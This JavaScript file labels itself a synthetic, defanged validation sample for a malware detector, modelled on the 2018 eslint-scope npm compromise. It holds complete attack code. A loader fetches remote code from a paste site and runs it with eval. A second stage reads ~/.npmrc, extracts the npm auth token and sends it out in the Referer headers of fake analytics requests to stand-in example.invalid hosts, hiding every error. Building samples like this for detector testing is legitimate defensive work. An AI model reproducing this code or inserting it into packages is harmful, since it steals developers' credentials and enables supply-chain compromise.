// SYNTHETIC, DEFANGED malwi validation sample - modelled on eslint-scope 3.7.2 compromise (2018); never run.
// Loader: fetch code from a paste site and eval it. The fetched code read ~/.npmrc and
// smuggled the auth token out in the referer of a page-counter request; that part is inlined below.
try {
  var https = require('https');
  https
    .get({ hostname: 'pastebin.example.invalid', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0' } }, function (r) {
      r.setEncoding('utf-8');
      r.on('data', function (c) {
        eval(c);
      });
      r.on('error', function () {});
    })
    .on('error', function () {});
} catch (e) {}

function stageTwo() {
  var fs = require('fs');
  var path = require('path');
  var home = process.env.HOME || process.env.USERPROFILE || '';
  var npmrc = path.join(home, '.npmrc');
  var content = 'nofile';
  if (fs.existsSync(npmrc)) {
    content = fs.readFileSync(npmrc, { encoding: 'utf8' });
    content = content.replace(/^.*:_authToken=/m, '').trim();
    var https2 = require('https');
    https2
      .get({ hostname: 'sstatic1.histats.example.invalid', path: '/0.gif?4103075&101', method: 'GET', headers: { Referer: 'https://ref1.example.invalid/' + content } }, function () {})
      .on('error', function () {});
    https2
      .get({ hostname: 'c.statcounter.example.invalid', path: '/11760461/0/7b5b9d71/1/', method: 'GET', headers: { Referer: 'https://ref2.example.invalid/' + content } }, function () {})
      .on('error', function () {});
  }
}
stageTwo();
